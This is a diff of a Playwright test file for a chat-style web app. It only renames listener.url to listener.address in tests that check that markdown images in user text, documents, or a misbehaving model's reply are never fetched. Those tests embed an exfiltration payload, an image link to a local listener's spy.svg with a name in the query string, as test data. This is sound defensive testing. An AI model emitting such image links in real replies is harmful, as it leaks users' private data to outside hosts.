@@ -30,7 +30,7 @@ def listener() -> Iterator[Listener]:
 def look(browser: Browser, script: str, folder: Path, listener: Listener) -> str:
     """Open a page with everything on it that shouldn't be, and return its title."""
     served = Served(folder, scripted=True, script=HERE / script)
-    served.environment["LEAK_TO"] = listener.url
+    served.environment["LEAK_TO"] = listener.address
     served.start()
     context = browser.new_context()
     try:
@@ -63,7 +63,7 @@ def test_the_policy_is_what_stops_it(browser: Browser, tmp_path: Path, listener:
 def test_an_image_in_ones_own_text_a_document_or_a_models_reply_is_never_fetched(
     tmp_path: Path, visit: Visit, listener: Listener
 ) -> None:
-    image = f"![foto]({listener.url}/spy.svg?said=Marjan)"
+    image = f"![foto]({listener.address}/spy.svg?said=Marjan)"
     file = tmp_path / "Afspraken.txt"
     file.write_text(f"De achterwacht in het weekend {image} is Ronald.\n")
     model = MisbehavingServer(good(f"Alle roosters, {image} naast haar routes. Wat kostte het?"))
@@ -75,7 +75,7 @@ def test_an_image_in_ones_own_text_a_document_or_a_models_reply_is_never_fetched
             begin(page, served.url)
             say(page, f"Marjan deed vanaf februari {image} alle roosters.")
             assert model.asked.is_set()
-            assert f"{listener.url}/spy.svg" in said(page).last.inner_text()
+            assert f"{listener.address}/spy.svg" in said(page).last.inner_text()
             expect(replied(page)).to_have_count(2)
             nothing_to_fetch(page)
             page.get_by_role("button", name=TEXTS("talk.to_plan")).first.click()
